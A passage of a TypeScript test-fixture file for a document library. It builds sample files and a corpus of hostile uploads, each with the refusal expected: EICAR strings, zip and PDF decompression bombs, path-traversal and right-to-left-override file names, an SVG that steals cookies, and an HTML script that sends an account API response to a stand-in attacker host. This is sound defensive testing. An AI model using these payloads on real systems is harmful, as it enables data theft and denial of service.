// Real files made by code for the document library's tests (nothing binary is committed), and a
// corpus of hostile uploads with the outcome each must get.
import { createHash, randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

// ---------------------------------------------------------------------------------------------
// Zip archives, written synchronously so a corpus entry can make its bytes on demand.

export interface ZipEntrySpec {
  name: string;
  data: Buffer | string;
  /** Stored without compression (an ODF `mimetype` must be). */
  store?: boolean;
  /** Unix mode kept in the external attributes; 0o120777 makes the entry a symbolic link. */
  unixMode?: number;
  /** Traditional PKWARE encryption with this password. */
  password?: string;
  /** The uncompressed size the headers claim, when it should lie. */
  declaredSize?: number;
  /** The compressed size the headers claim, when it should lie. */
  declaredPackedSize?: number;
}

const DOS_TIME = (12 << 11) | (0 << 5);
const DOS_DATE = ((2026 - 1980) << 9) | (5 << 5) | 1;

export function makeZip(entries: ZipEntrySpec[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const spec of entries) {
    const entry = zipEntry(spec);
    const local = Buffer.concat([localHeader(entry), entry.name, entry.payload]);
    centrals.push(centralHeader(entry, offset));
    locals.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(centrals);
  return Buffer.concat([...locals, central, endOfCentralDirectory(entries.length, central.length, offset)]);
}

interface ZipEntry {
  name: Buffer;
  payload: Buffer;
  flags: number;
  method: number;
  crc: number;
  size: number;
  packedSize: number;
  madeBy: number;
  external: number;
}

function zipEntry(spec: ZipEntrySpec): ZipEntry {
  const data = Buffer.isBuffer(spec.data) ? spec.data : Buffer.from(spec.data, 'utf8');
  const crc = crc32(data);
  const packed = spec.store ? data : deflateRawSync(data);
  const payload = spec.password ? zipCrypto(packed, spec.password, crc) : packed;
  return {
    name: Buffer.from(spec.name, 'utf8'),
    payload,
    flags: 0x800 | (spec.password ? 1 : 0),
    method: spec.store ? 0 : 8,
    crc,
    size: spec.declaredSize ?? data.length,
    packedSize: spec.declaredPackedSize ?? payload.length,
    madeBy: spec.unixMode === undefined ? 20 : (3 << 8) | 20,
    external: spec.unixMode === undefined ? 0 : (spec.unixMode << 16) >>> 0,
  };
}

function localHeader(e: ZipEntry): Buffer {
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(e.flags, 6);
  h.writeUInt16LE(e.method, 8);
  h.writeUInt16LE(DOS_TIME, 10);
  h.writeUInt16LE(DOS_DATE, 12);
  h.writeUInt32LE(e.crc, 14);
  h.writeUInt32LE(e.packedSize, 18);
  h.writeUInt32LE(e.size, 22);
  h.writeUInt16LE(e.name.length, 26);
  return h;
}

function centralHeader(e: ZipEntry, offset: number): Buffer {
  const h = Buffer.alloc(46);
  h.writeUInt32LE(0x02014b50, 0);
  h.writeUInt16LE(e.madeBy, 4);
  h.writeUInt16LE(20, 6);
  h.writeUInt16LE(e.flags, 8);
  h.writeUInt16LE(e.method, 10);
  h.writeUInt16LE(DOS_TIME, 12);
  h.writeUInt16LE(DOS_DATE, 14);
  h.writeUInt32LE(e.crc, 16);
  h.writeUInt32LE(e.packedSize, 20);
  h.writeUInt32LE(e.size, 24);
  h.writeUInt16LE(e.name.length, 28);
  h.writeUInt32LE(e.external, 38);
  h.writeUInt32LE(offset, 42);
  return Buffer.concat([h, e.name]);
}

function endOfCentralDirectory(count: number, size: number, offset: number): Buffer {
  const h = Buffer.alloc(22);
  h.writeUInt32LE(0x06054b50, 0);
  h.writeUInt16LE(count, 8);
  h.writeUInt16LE(count, 10);
  h.writeUInt32LE(size, 12);
  h.writeUInt32LE(offset, 16);
  return h;
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

/** The traditional PKWARE stream cipher (APPNOTE 6.1): a 12-byte header, then every byte XORed. */
function zipCrypto(data: Buffer, password: string, crc: number): Buffer {
  const keys = [0x12345678, 0x23456789, 0x34567890];
  const update = (byte: number): void => {
    keys[0] = (CRC_TABLE[(keys[0] ^ byte) & 0xff] ^ (keys[0] >>> 8)) >>> 0;
    keys[1] = (Math.imul((keys[1] + (keys[0] & 0xff)) >>> 0, 134775813) + 1) >>> 0;
    keys[2] = (CRC_TABLE[(keys[2] ^ (keys[1] >>> 24)) & 0xff] ^ (keys[2] >>> 8)) >>> 0;
  };
  for (const byte of Buffer.from(password, 'utf8')) update(byte);
  const plain = Buffer.concat([randomBytes(11), Buffer.from([crc >>> 24])]);
  const input = Buffer.concat([plain, data]);
  const out = Buffer.alloc(input.length);
  for (let i = 0; i < input.length; i++) {
    const t = (keys[2] | 2) & 0xffff;
    out[i] = input[i] ^ ((Math.imul(t, t ^ 1) >>> 8) & 0xff);
    update(input[i]);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Office Open XML and OpenDocument.

const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

function xml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

function contentTypes(overrides: Record<string, string>): string {
  const parts = Object.entries(overrides)
    .map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`)
    .join('');
  return (
    `${XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    `<Default Extension="xml" ContentType="application/xml"/>${parts}</Types>`
  );
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function relationships(targets: Array<[id: string, type: string, target: string]>): string {
  const items = targets.map(([id, type, target]) => `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"/>`).join('');
  return `${XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;
}

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

export function docxParts(paragraphs: string[]): ZipEntrySpec[] {
  const body = paragraphs.map((p) => `<w:p><w:r><w:t xml:space="preserve">${xml(p)}</w:t></w:r></w:p>`).join('');
  return [
    {
      name: '[Content_Types].xml',
      data: contentTypes({ '/word/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml' }),
    },
    { name: '_rels/.rels', data: relationships([['rId1', 'officeDocument', 'word/document.xml']]) },
    { name: 'word/document.xml', data: `${XML_DECLARATION}<w:document xmlns:w="${W}"><w:body>${body}<w:sectPr/></w:body></w:document>` },
  ];
}

/** A Word document (Word opens these three parts as they are). */
export function makeDocx(paragraphs: string[]): Buffer {
  return makeZip(docxParts(paragraphs));
}

const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

function columnName(index: number): string {
  let name = '';
  for (let n = index + 1; n > 0; n = Math.floor((n - 1) / 26)) name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
  return name;
}

/** An Excel workbook with one sheet: strings go through the shared-string table, numbers stay numbers. */
export function makeXlsx(cells: Array<Array<string | number>>): Buffer {
  const shared: string[] = [];
  const rows = cells
    .map((row, r) => {
      const cs = row.map((value, c) => {
        const ref = `${columnName(c)}${r + 1}`;
        if (typeof value === 'number') return `<c r="${ref}"><v>${value}</v></c>`;
        shared.push(value);
        return `<c r="${ref}" t="s"><v>${shared.length - 1}</v></c>`;
      });
      return `<row r="${r + 1}">${cs.join('')}</row>`;
    })
    .join('');
  const strings = shared.map((s) => `<si><t xml:space="preserve">${xml(s)}</t></si>`).join('');
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  return makeZip([
    {
      name: '[Content_Types].xml',
      data: contentTypes({
        '/xl/workbook.xml': `${type}.sheet.main+xml`,
        '/xl/worksheets/sheet1.xml': `${type}.worksheet+xml`,
        '/xl/sharedStrings.xml': `${type}.sharedStrings+xml`,
      }),
    },
    { name: '_rels/.rels', data: relationships([['rId1', 'officeDocument', 'xl/workbook.xml']]) },
    {
      name: 'xl/workbook.xml',
      data: `${XML_DECLARATION}<workbook xmlns="${S}" xmlns:r="${REL}"><sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: relationships([
        ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
        ['rId2', 'sharedStrings', 'sharedStrings.xml'],
      ]),
    },
    { name: 'xl/worksheets/sheet1.xml', data: `${XML_DECLARATION}<worksheet xmlns="${S}"><sheetData>${rows}</sheetData></worksheet>` },
    {
      name: 'xl/sharedStrings.xml',
      data: `${XML_DECLARATION}<sst xmlns="${S}" count="${shared.length}" uniqueCount="${shared.length}">${strings}</sst>`,
    },
  ]);
}

const P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';

function slideXml(text: string): string {
  const paragraphs = text
    .split('\n')
    .map((line) => `<a:p><a:r><a:rPr lang="sv-SE"/><a:t>${xml(line)}</a:t></a:r></a:p>`)
    .join('');
  return (
    `${XML_DECLARATION}<p:sld xmlns:a="${A}" xmlns:r="${REL}" xmlns:p="${P}"><p:cSld><p:spTree>` +
    '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>' +
    '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Rubrik 1"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>' +
    `<p:txBody><a:bodyPr/><a:lstStyle/>${paragraphs}</p:txBody></p:sp></p:spTree></p:cSld></p:sld>`
  );
}

/**
 * A presentation, one text per slide (a line break starts a new paragraph). `fileOrder` gives the
 * number of each slide's file (slideN.xml) when it should differ from the shown order, as after
 * slides are moved around in PowerPoint. Structurally minimal: no slide master or theme, which
 * the library never reads (PowerPoint itself may offer to repair such a file).
 */
export function makePptx(slides: string[], fileOrder: number[] = slides.map((_, i) => i + 1)): Buffer {
  const files = slides.map((text, i) => ({ n: fileOrder[i], text }));
  const ids = files.map((_, i) => `<p:sldId id="${256 + i}" r:id="rId${i + 1}"/>`).join('');
  const type = 'application/vnd.openxmlformats-officedocument.presentationml';
  const overrides: Record<string, string> = { '/ppt/presentation.xml': `${type}.presentation.main+xml` };
  for (const f of files) overrides[`/ppt/slides/slide${f.n}.xml`] = `${type}.slide+xml`;
  return makeZip([
    { name: '[Content_Types].xml', data: contentTypes(overrides) },
    { name: '_rels/.rels', data: relationships([['rId1', 'officeDocument', 'ppt/presentation.xml']]) },
    {
      name: 'ppt/presentation.xml',
      data:
        `${XML_DECLARATION}<p:presentation xmlns:a="${A}" xmlns:r="${REL}" xmlns:p="${P}">` +
        `<p:sldIdLst>${ids}</p:sldIdLst><p:sldSz cx="12192000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`,
    },
    {
      name: 'ppt/_rels/presentation.xml.rels',
      data: relationships(files.map((f, i) => [`rId${i + 1}`, 'slide', `slides/slide${f.n}.xml`])),
    },
    ...files.map((f) => ({ name: `ppt/slides/slide${f.n}.xml`, data: slideXml(f.text) })),
  ]);
}

const ODF_NAMESPACES =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" ' +
  'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ' +
  'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"';

/** An OpenDocument package: `mimetype` first and stored, a manifest, and the content. */
export function odfParts(mimetype: string, body: string): ZipEntrySpec[] {
  const manifest =
    `${XML_DECLARATION}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">` +
    `<manifest:file-entry manifest:full-path="/" manifest:version="1.3" manifest:media-type="${mimetype}"/>` +
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>';
  const content = `${XML_DECLARATION}<office:document-content ${ODF_NAMESPACES} office:version="1.3"><office:body>${body}</office:body></office:document-content>`;
  return [
    { name: 'mimetype', data: mimetype, store: true },
    { name: 'META-INF/manifest.xml', data: manifest },
    { name: 'content.xml', data: content },
  ];
}

const ODF_TYPE = 'application/vnd.oasis.opendocument';

export function makeOdt(paragraphs: string[]): Buffer {
  const body = paragraphs.map((p) => `<text:p>${xml(p)}</text:p>`).join('');
  return makeZip(odfParts(`${ODF_TYPE}.text`, `<office:text>${body}</office:text>`));
}

export function makeOds(cells: Array<Array<string | number>>): Buffer {
  const rows = cells
    .map((row) => {
      const cs = row.map((value) =>
        typeof value === 'number'
          ? `<table:table-cell office:value-type="float" office:value="${value}"><text:p>${value}</text:p></table:table-cell>`
          : `<table:table-cell office:value-type="string"><text:p>${xml(value)}</text:p></table:table-cell>`,
      );
      return `<table:table-row>${cs.join('')}</table:table-row>`;
    })
    .join('');
  return makeZip(
    odfParts(`${ODF_TYPE}.spreadsheet`, `<office:spreadsheet><table:table table:name="Blad1">${rows}</table:table></office:spreadsheet>`),
  );
}

export function makeOdp(slides: string[]): Buffer {
  const pages = slides
    .map(
      (text, i) =>
        `<draw:page draw:name="Bild${i + 1}"><draw:frame svg:x="2cm" svg:y="2cm" svg:width="20cm" svg:height="3cm">` +
        `<draw:text-box><text:p>${xml(text)}</text:p></draw:text-box></draw:frame></draw:page>`,
    )
    .join('');
  return makeZip(odfParts(`${ODF_TYPE}.presentation`, `<office:presentation>${pages}</office:presentation>`));
}

// ---------------------------------------------------------------------------------------------
// Text.

const WINDOWS_1252_EXTRAS = '€\u0081‚ƒ„…†‡ˆ‰Š‹Œ\u008dŽ\u008f\u0090‘’“”•–—˜™š›œ\u009džŸ';

/** Windows-1252 ("ANSI") bytes; characters it lacks become '?'. */
export function windows1252(text: string): Buffer {
  return Buffer.from(
    [...text].map((c) => {
      const code = c.codePointAt(0) ?? 0x3f;
      if (code < 0x80 || (code >= 0xa0 && code <= 0xff)) return code;
      const extra = WINDOWS_1252_EXTRAS.indexOf(c);
      return extra >= 0 ? 0x80 + extra : 0x3f;
    }),
  );
}

export interface CsvOptions {
  /** Excel on a Swedish Windows writes ';' and Windows-1252; the default is what the hub asks for. */
  separator?: string;
  encoding?: 'utf-8' | 'windows-1252';
  /** A UTF-8 byte-order mark, which Excel needs to open UTF-8 CSV with å/ä/ö intact. */
  bom?: boolean;
}

/** RFC 4180 CSV with CRLF line ends; fields with the separator, quotes or line breaks are quoted. */
export function makeCsv(rows: string[][], options: CsvOptions = {}): Buffer {
  const separator = options.separator ?? ';';
  const quote = (field: string): string => (field.includes(separator) || /["\r\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field);
  const text = rows.map((row) => row.map(quote).join(separator)).join('\r\n') + '\r\n';
  if (options.encoding === 'windows-1252') return windows1252(text);
  return Buffer.concat([Buffer.from(options.bom ? [0xef, 0xbb, 0xbf] : []), Buffer.from(text, 'utf8')]);
}

// ---------------------------------------------------------------------------------------------
// PDF: one standard font (Helvetica, WinAnsiEncoding) so å/ä/ö need no embedded font.

function pdfString(text: string): Buffer {
  const escaped = text.replace(/[\\()]/g, (c) => `\\${c}`);
  return Buffer.concat([Buffer.from('('), windows1252(escaped), Buffer.from(')')]);
}

const LINES_PER_PAGE = 48;

function textContent(lines: string[]): Buffer {
  const shown = lines.flatMap((line) => [pdfString(line), Buffer.from(' Tj T*\n')]);
  return Buffer.concat([Buffer.from('BT\n/F1 12 Tf\n14 TL\n56 790 Td\n'), ...shown, Buffer.from('ET\n')]);
}

type PdfObject = string | Buffer;

function pdfStream(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]);
}

/** Objects numbered from 1 (1 must be the catalog), with a correct cross-reference table. */
function pdfFile(objects: PdfObject[], trailerExtra = ''): Buffer {
  const chunks: Buffer[] = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = chunks[0].length;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.isBuffer(object) ? object : Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    chunks.push(chunk);
    length += chunk.length;
  });
  const xref = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  chunks.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${xref}` +
        `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${trailerExtra} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(chunks);
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

interface PdfOptions {
  /** Encrypts a stream of object `number`. */
  encrypt?: (number: number, data: Buffer) => Buffer;
  /** Objects after the font and the image. */
  extra?: PdfObject[];
  trailer?: string;
}

/** Catalog, pages, then each page and its content; a font and a 1×1 image all pages share come last. */
function pagedPdf(contents: Buffer[], options: PdfOptions = {}): Buffer {
  const encrypt = options.encrypt ?? ((_: number, data: Buffer) => data);
  const fontRef = 3 + contents.length * 2;
  const kids = contents.map((_, i) => `${3 + i * 2} 0 R`).join(' ');
  const objects: PdfObject[] = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${contents.length} >>`];
  contents.forEach((content, i) => {
    const page = 3 + i * 2;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${fontRef} 0 R >> /XObject << /Im1 ${fontRef + 1} 0 R >> >> /Contents ${page + 1} 0 R >>`,
      pdfStream('', encrypt(page + 1, content)),
    );
  });
  const pixel = encrypt(fontRef + 1, Buffer.from([0x80]));
  objects.push(FONT, pdfStream('/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8', pixel));
  return pdfFile([...objects, ...(options.extra ?? [])], options.trailer);
}

function pages(lines: string[]): string[][] {
  const out: string[][] = [];
  for (let i = 0; i < lines.length; i += LINES_PER_PAGE) out.push(lines.slice(i, i + LINES_PER_PAGE));
  return out.length > 0 ? out : [[]];
}

/** A PDF with the lines as real text (48 lines a page), which PDF.js reads back with å/ä/ö. */
export function makePdf(lines: string[]): Buffer {
  return pagedPdf(pages(lines).map(textContent));
}

/** A PDF whose only page is a picture and holds no text, as from a scanner. */
export function makeScannedPdf(): Buffer {
  return pagedPdf([Buffer.from('q 595 0 0 842 0 0 cm /Im1 Do Q\n')]);
}

/**
 * A small PDF whose one content stream inflates to `mebibytes` MiB of spaces before its text: a
 * decompression bomb for the text extraction (it opens fine in a viewer).
 */
export function makePdfBomb(mebibytes: number): Buffer {
  const content = Buffer.concat([Buffer.alloc(mebibytes * 1024 * 1024, 0x20), textContent(['Bomben är desarmerad'])]);
  const packed = deflateSync(content, { level: 9 });
  return pdfFile([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    FONT,
    pdfStream('/Filter /FlateDecode', packed),
  ]);
}

const PASSWORD_PADDING = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');

function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i] + key[i % key.length]) & 0xff;
    [s[i], s[j]] = [s[j], s[i]];
  }
  const out = Buffer.alloc(data.length);
  for (let k = 0, i = 0, j = 0; k < data.length; k++) {
    i = (i + 1) & 0xff;
    j = (j + s[i]) & 0xff;
    [s[i], s[j]] = [s[j], s[i]];
    out[k] = data[k] ^ s[(s[i] + s[j]) & 0xff];
  }
  return out;
}

const md5 = (...parts: Buffer[]): Buffer => createHash('md5').update(Buffer.concat(parts)).digest();
const padPassword = (password: string): Buffer => Buffer.concat([windows1252(password), PASSWORD_PADDING]).subarray(0, 32);

/**
 * A PDF encrypted with the standard security handler (RC4, 40-bit, revision 2) that needs a user
 * password to open: the content is really encrypted and opens with `password`.
 */
export function makeEncryptedPdf(lines: string[] = ['Sekretessbelagd bilaga till protokollet'], password = 'hemligt'): Buffer {
  const id = md5(Buffer.from('nätverkshubben'));
  const owner = rc4(md5(padPassword('ägare')).subarray(0, 5), padPassword(password));
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-44);
  const key = md5(padPassword(password), owner, permissions, id).subarray(0, 5);
  const user = rc4(key, PASSWORD_PADDING);
  const objectKey = (n: number): Buffer => md5(key, Buffer.from([n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, 0, 0])).subarray(0, 10);
  const contents = pages(lines).map(textContent);
  const hexId = id.toString('hex');
  return pagedPdf(contents, {
    encrypt: (n, data) => rc4(objectKey(n), data),
    extra: [`<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P -44 >>`],
    trailer: ` /Encrypt ${3 + contents.length * 2 + 2} 0 R /ID [<${hexId}> <${hexId}>]`,
  });
}

/**
 * `bytes` bytes that look like a PDF (header, comment lines, end marker), as a stream that never
 * holds them all: for the upload size limit.
 */
export function oversize(bytes: number): Readable {
  const head = Buffer.from('%PDF-1.7\n');
  const tail = Buffer.from('\n%%EOF\n');
  const block = Buffer.from('% utfyllnad för storleksprovet\n'.repeat(2500));
  function* chunks(): Generator<Buffer> {
    if (bytes <= head.length + tail.length) {
      yield Buffer.concat([head, tail]).subarray(0, bytes);
      return;
    }
    yield head;
    for (let left = bytes - head.length - tail.length; left > 0; left -= block.length)
      yield block.subarray(0, Math.min(left, block.length));
    yield tail;
  }
  return Readable.from(chunks(), { objectMode: false });
}

// ---------------------------------------------------------------------------------------------
// Images, byte by byte.

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

export const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A 2×2 RGB PNG (Helsingborg blue), with optional extra chunks before the image data. */
export function makePng(extraChunks: Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(2, 0);
  header.writeUInt32BE(2, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = [0, 0x00, 0x66, 0x99, 0x00, 0x66, 0x99];
  const pixels = deflateSync(Buffer.from([...row, ...row]));
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    ...extraChunks,
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export function pngTextChunk(keyword: string, text: string): Buffer {
  return pngChunk('tEXt', Buffer.from(`${keyword}\0${text}`, 'latin1'));
}

function jpegSegment(marker: number, data: number[]): Buffer {
  return Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 0xff, ...data]);
}

/**
 * An 8×8 grey baseline JPEG: one flat block, coded with one-symbol Huffman tables (DC difference 0,
 * then end of block), which every decoder reads.
 */
export function makeJpg(): Buffer {
  const oneSymbolTable = (tableClass: number): Buffer => jpegSegment(0xc4, [tableClass << 4, 1, ...Array<number>(15).fill(0), 0]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    jpegSegment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
    jpegSegment(0xdb, [0, ...Array<number>(64).fill(1)]),
    jpegSegment(0xc0, [8, 0, 8, 0, 8, 1, 1, 0x11, 0]),
    oneSymbolTable(0),
    oneSymbolTable(1),
    jpegSegment(0xda, [1, 1, 0x00, 0, 63, 0]),
    Buffer.from([0x3f, 0xff, 0xd9]),
  ]);
}

// ---------------------------------------------------------------------------------------------
// The malicious corpus.

/** Same values as RefusalReason in @hub/documents (the spec of the inspector checks they agree). */
export type CorpusOutcome =
  'bad-name' | 'type-not-allowed' | 'content-mismatch' | 'empty' | 'unsafe-archive' | 'malware' | 'accepted-neutralised';

export interface CorpusEntry {
  name: string;
  bytes: () => Buffer;
  expect: CorpusOutcome;
  why: string;
  /** For an accepted entry: the name the library keeps and offers for download. */
  savedAs?: string;
}

/** The EICAR anti-virus test file, assembled so this source file itself is not quarantined. */
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

const text = (value: string) => (): Buffer => Buffer.from(value, 'utf8');
const HTML_PAGE =
  '<!DOCTYPE html><html><body><script>fetch("/api/v1/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>';
const SVG_WITH_SCRIPT =
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';

function docxWith(extra: ZipEntrySpec[], paragraphs = ['Protokoll']): Buffer {
  return makeZip([...docxParts(paragraphs), ...extra]);
}

function manyEntries(count: number): Buffer {
  const entries: ZipEntrySpec[] = docxParts(['Många delar']);
  for (let i = entries.length; i < count; i++) entries.push({ name: `word/media/bild${i}.txt`, data: 'x', store: true });
  return makeZip(entries);
}

export function maliciousCorpus(): CorpusEntry[] {
  return [
    { name: 'eicar.txt', bytes: text(EICAR), expect: 'malware', why: 'the EICAR test signature as a text file' },
    {
      name: 'läsmig.md',
      bytes: text(`# Läs mig\n\n${EICAR}\n`),
      expect: 'malware',
      why: 'the signature inside otherwise ordinary markdown',
    },
    {
      name: 'faktura.pdf',
      bytes: () => Buffer.concat([makePdf(['Faktura']), Buffer.from(`\n%${EICAR}\n`)]),
      expect: 'malware',
      why: 'the signature appended to a real PDF',
    },
    {
      name: 'protokoll.docx',
      bytes: () => docxWith([{ name: 'word/media/payload.bin', data: EICAR }]),
      expect: 'malware',
      why: 'the signature compressed inside a docx entry, invisible in the raw bytes',
    },
    {
      name: 'polyglot.pdf',
      bytes: () => Buffer.concat([Buffer.from(`%PDF-1.4\n%${HTML_PAGE}\n`), makePdf(['Kvartalsrapport']).subarray(9)]),
      expect: 'content-mismatch',
      why: 'a PDF/HTML polyglot: a PDF header followed by an HTML page a browser would run',
    },
    {
      name: 'iframe.pdf',
      bytes: () => Buffer.concat([Buffer.from('%PDF-1.4\n<IFRAME SRC="javascript:alert(1)">\n'), makePdf(['x']).subarray(9)]),
      expect: 'content-mismatch',
      why: 'HTML markers in upper case within the first kilobyte of a PDF',
    },
    { name: 'report.pdf.html', bytes: text(HTML_PAGE), expect: 'type-not-allowed', why: 'a double extension: the last one, html, counts' },
    {
      name: 'rapport.pdf\u0000.html',
      bytes: text(HTML_PAGE),
      expect: 'type-not-allowed',
      why: 'a NUL byte that would cut the name at .pdf in C code; removed, the name ends in .html',
    },
    {
      name: 'rapport\u0000.pdf',
      bytes: () => makePdf(['Rapport']),
      expect: 'accepted-neutralised',
      savedAs: 'rapport.pdf',
      why: 'a NUL byte in an otherwise good name is removed',
    },
    {
      name: 'faktura\u202Efdp.exe',
      bytes: () => Buffer.from('MZ\x90\x00', 'latin1'),
      expect: 'type-not-allowed',
      why: 'a right-to-left override shows "fakturaexe.pdf" but the file ends in .exe',
    },
    {
      name: 'Protokoll\u202E\u200B maj.pdf',
      bytes: () => makePdf(['Protokoll maj']),
      expect: 'accepted-neutralised',
      savedAs: 'Protokoll maj.pdf',
      why: 'bidi overrides and zero-width characters are removed from the name',
    },
    {
      name: '../../../etc/passwd.txt',
      bytes: text('root:x:0:0'),
      expect: 'accepted-neutralised',
      savedAs: 'passwd.txt',
      why: 'folders in the name (forward slashes) are dropped; storage paths never come from names',
    },
    {
      name: '..\\..\\Windows\\win.ini.txt',
      bytes: text('[fonts]'),
      expect: 'accepted-neutralised',
      savedAs: 'win.ini.txt',
      why: 'folders in the name (backslashes) are dropped',
    },
    {
      name: `${'Å'.repeat(300)}.pdf`,
      bytes: () => makePdf(['Långt namn']),
      expect: 'accepted-neutralised',
      savedAs: `${'Å'.repeat(196)}.pdf`,
      why: 'a 304-character name is cut to 200 characters, keeping the extension',
    },
    { name: '\u0000\u0007\u202E', bytes: text('x'), expect: 'bad-name', why: 'a name of control characters only' },
    { name: '.pdf', bytes: () => makePdf(['x']), expect: 'bad-name', why: 'nothing before the extension' },
    { name: 'README', bytes: text('Läs mig'), expect: 'type-not-allowed', why: 'no extension at all' },
    {
      name: 'bomb.docx',
      bytes: () => docxWith([{ name: 'word/media/nollor.bin', data: Buffer.alloc(20 * 1024 * 1024) }]),
      expect: 'unsafe-archive',
      why: 'a zip bomb: 20 MiB of zeros packed about a thousand times',
    },
    {
      name: 'jätte.docx',
      bytes: () =>
        docxWith([
          { name: 'word/media/a.bin', data: 'a', declaredSize: 300 * 1024 * 1024, declaredPackedSize: 2 * 1024 * 1024 },
          { name: 'word/media/b.bin', data: 'b', declaredSize: 300 * 1024 * 1024, declaredPackedSize: 2 * 1024 * 1024 },
        ]),
      expect: 'unsafe-archive',
      why: 'entries declaring 600 MiB unpacked in total (each at a modest ratio): over the 512 MiB limit before anything is inflated',
    },
    {
